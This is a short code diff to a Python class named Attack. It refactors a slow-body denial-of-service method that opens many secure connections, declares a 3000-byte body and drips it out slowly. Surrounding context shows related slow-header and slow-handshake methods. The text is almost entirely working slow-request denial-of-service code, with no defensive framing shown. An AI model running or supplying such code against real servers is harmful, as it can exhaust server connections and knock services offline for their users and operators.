@@ -82,10 +82,13 @@ class Attack:
         self.drip(self.many(self.secure), self.head + b"X-Slow: " + b"x" * 4000)
 
     def slow_body(self):
-        sockets = self.many(self.secure)
-        for sock in sockets:
-            sock.sendall(self.head + b"Content-Length: 3000\r\n\r\n")
-        self.drip(sockets, b" " * 3000)
+        self.drip(self.many(self.begun), b" " * 3000)
+
+    def begun(self):
+        """A connection with a request whose body is to come."""
+        sock = self.secure()
+        sock.sendall(self.head + b"Content-Length: 3000\r\n\r\n")
+        return sock
 
     def slow_handshake(self):
         sockets = self.many(self.raw)
